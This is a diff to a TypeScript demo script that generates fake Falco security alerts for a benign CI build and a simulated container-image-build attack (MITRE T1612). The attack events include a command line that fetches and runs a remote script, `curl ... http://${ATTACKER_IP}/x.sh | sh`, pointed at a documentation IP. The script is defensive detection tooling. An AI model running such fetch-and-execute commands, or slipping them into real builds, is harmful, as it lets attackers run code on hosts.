@@ -1,13 +1,14 @@
 /**
- * The demo's scripted Falco events, shaped exactly as the shipped rules emit them (json_output
- * with output_fields): a benign CI build on one host, and a T1612 attack on another — a
- * remote Docker API build whose RUN step downloads a payload from a never-seen IP.
+ * The demo's scripted Falco events: a benign CI build on one host, and a T1612 attack on
+ * another — a remote Docker API build whose RUN step downloads a payload from a never-seen IP.
+ * Each is rendered through the shipped rule that would report it (render.ts), so it is what
+ * Falco's json_output prints.
  *
  * `tsx src/demo/script.ts` prints them as JSON lines (that is how examples/sample-events.jsonl
  * was recorded).
  */
 import { ANCESTRY_DEPTH } from '../falco/fields.js';
-import { formatTimeNs } from '../falco/event.js';
+import { falcoJsonLine, loadRuleTemplates, renderEvent, type FieldValues } from './render.js';
 
 export interface Proc {
   pid: number;
@@ -25,18 +26,13 @@ export interface ScriptEvent {
   /** Offset from the start of the script, ms. */
   atMs: number;
   rule: string;
-  priority: string;
   hostname: string;
-  tags: string[];
   proc: Proc;
-  extra?: Record<string, string | number | null>;
+  extra?: FieldValues;
 }
 
-const BUILD_TAGS = ['maturity_incubating', 'host', 'container', 'build', 'mitre_defense_evasion', 'T1612', 't1612_build'];
-const EGRESS_TAGS = ['maturity_incubating', 'host', 'container', 'network', 'mitre_defense_evasion', 'T1612', 't1612_egress'];
-
-function processFields(p: Proc): Record<string, string | number | null> {
-  const f: Record<string, string | number | null> = {
+function processFields(p: Proc): FieldValues {
+  const f: FieldValues = {
     'proc.pid': p.pid,
     'proc.ppid': p.ancestors[0]?.[1] ?? null,
     'proc.name': p.name,
@@ -47,6 +43,7 @@ function processFields(p: Proc): Record<string, string | number | null> {
     'user.name': p.user ?? 'root',
     'container.id': p.container?.id ?? 'host',
     'container.name': p.container?.name ?? 'host',
+    'container.image': p.container ? `${p.container.repository}:${p.container.tag}` : null,
     'container.image.repository': p.container?.repository ?? null,
     'container.image.tag': p.container?.tag ?? null,
     'thread.cgroups': p.cgroups ?? 'cpuset=/ cpu=/ memory=/',
@@ -59,38 +56,27 @@ function processFields(p: Proc): Record<string, string | number | null> {
   return f;
 }
 
-/** The Falco JSON alert for a script event at `startNs` + offset. */
-export function toFalcoJson(ev: ScriptEvent, startNs: bigint): Record<string, unknown> {
-  const timeNs = startNs + BigInt(ev.atMs) * 1_000_000n;
-  const fields = { ...processFields(ev.proc), ...(ev.extra ?? {}) };
-  const pairs = Object.entries(fields)
-    .filter(([k]) => !k.startsWith('proc.a') && k !== 'thread.cgroups')
-    .map(([k, v]) => `${k}=${v ?? '<NA>'}`)
-    .join(' ');
-  const clock = formatTimeNs(timeNs).slice(11, 29);
-  // Falco's text line: time, priority, then the rule's output (its message and key=value pairs).
-  return {
-    hostname: ev.hostname,
-    output: `${clock}: ${ev.priority} T1612 ${ev.rule.slice('T1612 '.length).toLowerCase()} (${pairs})`,
-    output_fields: { 'evt.time': timeNs.toString(), ...fields },
-    priority: ev.priority,
-    rule: ev.rule,
-    source: 'syscall',
-    tags: ev.tags,
-    time: formatTimeNs(timeNs),
-  };
+/** The script as Falco JSON alerts, the first at `startNs` (ns since the epoch). */
+export async function renderScript(startNs: bigint, script: ScriptEvent[] = demoScript()): Promise<Record<string, unknown>[]> {
+  const templates = await loadRuleTemplates();
+  return script.map((ev) => {
+    const tpl = templates.get(ev.rule);
+    if (!tpl) throw new Error(`the demo script names ${ev.rule}, which the shipped rules do not have`);
+    return renderEvent(tpl, ev.hostname, startNs + BigInt(ev.atMs) * 1_000_000n, { ...processFields(ev.proc), ...(ev.extra ?? {}) });
+  });
 }
 
 const init: [string, number, string] = ['systemd', 1, '/sbin/init'];
 const dockerd: [string, number, string] = ['dockerd', 811, '/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock'];
 const dockerdRemote: [string, number, string] = ['dockerd', 944, '/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375'];
 
-const egress = (ip: string, port: number, name: string | null, proto = 'tcp'): Record<string, string | number | null> => ({
+// Falco fills fd.sip.name only for domains its loaded rules name, so real events carry <NA>.
+const egress = (ip: string, port: number, proto = 'tcp'): FieldValues => ({
   'evt.type': 'connect',
   'fd.sip': ip,
   'fd.sport': port,
   'fd.l4proto': proto,
-  'fd.sip.name': name,
+  'fd.sip.name': null,
   'fd.name': `10.0.2.15:${40000 + (port % 1000)}->${ip}:${port}`,
 });
 
@@ -98,6 +84,8 @@ const egress = (ip: string, port: number, name: string | null, proto = 'tcp'): R
 export const BENIGN_HOST = 'ci-build-01';
 export const ATTACK_HOST = 'node-7';
 export const ATTACKER_IP = '203.0.113.66';
+/** Docker Hub's CDN network in the script; the demo allow-lists it (`allow_cidrs`). */
+export const REGISTRY_CIDR = '104.16.0.0/13';
 export const ATTACKER_CLIENT = '198.51.100.7';
 
 export function demoScript(): ScriptEvent[] {
@@ -109,37 +97,29 @@ export function demoScript(): ScriptEvent[] {
     {
       atMs: 0,
       rule: 'T1612 Container Outbound Connection',
-      priority: 'Informational',
       hostname: BENIGN_HOST,
-      tags: EGRESS_TAGS,
       proc: { pid: 20111, name: 'apk', exepath: '/sbin/apk', cmdline: 'apk add --no-cache git', ancestors: [['sh', 20102, 'sh -c apk add --no-cache git'], ['containerd-shim', 20050], init], container: ciRunner },
-      extra: egress('151.101.2.132', 443, 'dl-cdn.alpinelinux.org'),
+      extra: egress('151.101.2.132', 443),
     },
     // Benign build: CI runs `docker build`; dockerd pulls the base image from Docker Hub
     // (allow-listed domain); the RUN step installs packages from the known Alpine CDN.
     {
       atMs: 300,
       rule: 'T1612 Image Build Command Executed',
-      priority: 'Notice',
       hostname: BENIGN_HOST,
-      tags: BUILD_TAGS,
       proc: { pid: 21001, name: 'docker', exepath: '/usr/bin/docker', cmdline: 'docker build -t shop/web:1.4.2 .', user: 'ci', ancestors: [['bash', 20990, 'bash ci/build.sh'], ['gitlab-runner', 900], init] },
     },
     {
       atMs: 400,
       rule: 'T1612 Builder Daemon Outbound Connection',
-      priority: 'Notice',
       hostname: BENIGN_HOST,
-      tags: EGRESS_TAGS,
       proc: { pid: dockerd[1], name: 'dockerd', exepath: '/usr/bin/dockerd', cmdline: dockerd[2], ancestors: [init] },
-      extra: egress('104.16.99.56', 443, 'registry-1.docker.io'),
+      extra: egress('104.16.99.56', 443),
     },
     {
       atMs: 600,
       rule: 'T1612 Builder Runtime Started',
-      priority: 'Informational',
       hostname: BENIGN_HOST,
-      tags: BUILD_TAGS,
       proc: {
         pid: 21100,
         name: 'runc',
@@ -151,19 +131,15 @@ export function demoScript(): ScriptEvent[] {
     {
       atMs: 800,
       rule: 'T1612 Build Step Outbound Connection',
-      priority: 'Informational',
       hostname: BENIGN_HOST,
-      tags: EGRESS_TAGS,
       proc: { pid: 21140, name: 'apk', exepath: '/sbin/apk', cmdline: 'apk add --no-cache nodejs npm', ancestors: [['sh', 21120, '/bin/sh -c apk add --no-cache nodejs npm'], ['runc', 21100], dockerd, init], cgroups: `cpuset=${benignStep} cpu=${benignStep} memory=${benignStep}` },
-      extra: egress('151.101.2.132', 443, 'dl-cdn.alpinelinux.org'),
+      extra: egress('151.101.2.132', 443),
     },
     // The attack on node-7: a client on the internet reaches the exposed Docker API...
     {
       atMs: 1000,
       rule: 'T1612 Remote Docker API Connection',
-      priority: 'Warning',
       hostname: ATTACK_HOST,
-      tags: BUILD_TAGS,
       proc: { pid: dockerdRemote[1], name: 'dockerd', exepath: '/usr/bin/dockerd', cmdline: dockerdRemote[2], ancestors: [init] },
       extra: { 'evt.type': 'accept4', 'fd.cip': ATTACKER_CLIENT, 'fd.cport': 53422, 'fd.sport': 2375, 'fd.name': `${ATTACKER_CLIENT}:53422->10.0.4.21:2375` },
     },
@@ -171,19 +147,15 @@ export function demoScript(): ScriptEvent[] {
     {
       atMs: 1200,
       rule: 'T1612 Builder Daemon Outbound Connection',
-      priority: 'Notice',
       hostname: ATTACK_HOST,
-      tags: EGRESS_TAGS,
       proc: { pid: dockerdRemote[1], name: 'dockerd', exepath: '/usr/bin/dockerd', cmdline: dockerdRemote[2], ancestors: [init] },
-      extra: egress('104.16.99.56', 443, 'registry-1.docker.io'),
+      extra: egress('104.16.99.56', 443),
     },
     // ...BuildKit runs the RUN step...
     {
       atMs: 1400,
       rule: 'T1612 Builder Runtime Started',
-      priority: 'Informational',
       hostname: ATTACK_HOST,
-      tags: BUILD_TAGS,
       proc: {
         pid: 30200,
         name: 'runc',
@@ -196,11 +168,9 @@ export function demoScript(): ScriptEvent[] {
     {
       atMs: 1600,
       rule: 'T1612 Build Step Outbound Connection',
-      priority: 'Informational',
       hostname: ATTACK_HOST,
-      tags: EGRESS_TAGS,
       proc: { pid: 30240, name: 'curl', exepath: '/usr/bin/curl', cmdline: `curl -fsSL http://${ATTACKER_IP}/x.sh`, ancestors: [['sh', 30220, `/bin/sh -c curl -fsSL http://${ATTACKER_IP}/x.sh | sh`], ['runc', 30200], dockerdRemote, init], cgroups: `cpuset=${attackStep} cpu=${attackStep} memory=${attackStep}` },
-      extra: egress(ATTACKER_IP, 80, null),
+      extra: egress(ATTACKER_IP, 80),
     },
   ];
 }
@@ -208,9 +178,5 @@ export function demoScript(): ScriptEvent[] {
 // `tsx src/demo/script.ts` prints the script as Falco JSON lines.
 if (import.meta.url === `file://${process.argv[1]}`) {
   const start = BigInt(Date.parse('2026-11-02T09:15:00Z')) * 1_000_000n + 123_456n;
-  for (const ev of demoScript()) {
-    // Falco writes evt.time as a bare 19-digit number; JSON.stringify cannot, so splice it in.
-    const line = JSON.stringify(toFalcoJson(ev, start)).replace(/"evt\.time":"(\d+)"/, '"evt.time":$1');
-    process.stdout.write(`${line}\n`);
-  }
+  for (const ev of await renderScript(start)) process.stdout.write(`${falcoJsonLine(ev)}\n`);
 }
